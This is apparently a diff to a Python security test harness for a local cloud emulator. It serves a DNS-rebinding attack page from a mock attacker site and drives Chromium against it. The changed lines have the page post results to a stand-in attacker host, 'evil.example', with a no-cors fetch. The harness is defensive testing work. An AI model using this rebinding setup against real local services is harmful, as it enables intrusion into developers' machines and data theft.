@@ -121,7 +121,7 @@ PAGE_IN_BUCKET = """<script>
 
 
 class Site:
-    """A web server for pages; a page reports by POST /report. With `onward` it hands all but the first page on to that port."""
+    """A web server for pages; a page reports by POST /report."""
 
     def __init__(self, address="127.0.0.1", port=0):
         site = self
@@ -154,7 +154,7 @@ class Site:
 
 
 class Rebound:
-    """A name that changes its address: connections go to the attacker's site until its page was fetched, then to the emulator."""
+    """A name that changes its address: the page comes from the attacker's site, all other connections go to the emulator."""
 
     def __init__(self, port, site_port):
         self.listener = socket.create_server(("127.0.0.2", port))
@@ -168,8 +168,7 @@ class Rebound:
 
     def carry(self, client):
         first = client.recv(65536)
-        # The report goes home; so does the page itself, and whatever else the attacker has.
-        home = first.startswith((b"GET /rebind.html", b"POST /report"))
+        home = first.startswith(b"GET /rebind.html")
         server = socket.create_connection(("127.0.0.1", self.target if home else self.port))
         server.sendall(first)
 
@@ -197,7 +196,7 @@ class Rebound:
 def browse(site, url, timeout_s=90):
     """Opens a page and gives what it reports."""
     site.arrived.clear()
-    with tempfile.TemporaryDirectory(prefix="cloudemu-browser-") as profile:
+    with tempfile.TemporaryDirectory(prefix="cloudemu-browser-", ignore_cleanup_errors=True) as profile:
         rules = "MAP evil.example 127.0.0.1, MAP rebind.example 127.0.0.2"
         process = subprocess.Popen([CHROMIUM, *FLAGS, "--user-data-dir=" + profile, "--host-resolver-rules=" + rules, "--remote-debugging-port=0",
                                     url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
@@ -287,7 +286,8 @@ def rebinding(emulator):
     Rebound(emulator.port, evil.port)
     evil.page("/rebind.html", ATTACKS + """
       (async () => { await attack(location.origin); await wait(2500);
-        await fetch('/report', {method: 'POST', body: JSON.stringify({tries, results})}); })();""")
+        await fetch('http://evil.example:%d/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({tries, results})});
+      })();""" % evil.port)
     before = emulator.sequence()
     check("a name that was bound anew", emulator, before, browse(evil, "http://rebind.example:%d/rebind.html" % emulator.port))
 
@@ -333,7 +333,8 @@ def developers(emulator):
         await did('scan by name', '/', 'POST', {...json, 'X-Amz-Target': 'DynamoDB_20120810.Scan'}, '{"TableName":"load"}', 'Items',
                   base.replace('localhost', 'dynamodb.us-east-1.localhost'));
         await did('queues', '/', 'POST', {...json, 'X-Amz-Target': 'AmazonSQS.ListQueues'}, '{}', 'jobs');
-        await did('query', '/', 'POST', {'Content-Type': 'application/x-www-form-urlencoded'}, 'Action=ListQueues', 'jobs',
+        await did('query', '/', 'POST', {'Content-Type': 'application/x-www-form-urlencoded',
+                  'Authorization': headers.Authorization.replace('s3', 'sqs')}, 'Action=ListQueues', 'jobs',
                   base.replace('localhost', '127.0.0.1'));
         await did('clock', '/_cloudemu/clock', 'GET', {}, undefined, 'frozen');
         await did('reset', '/_cloudemu/reset', 'POST', json, '{}', 'reset');
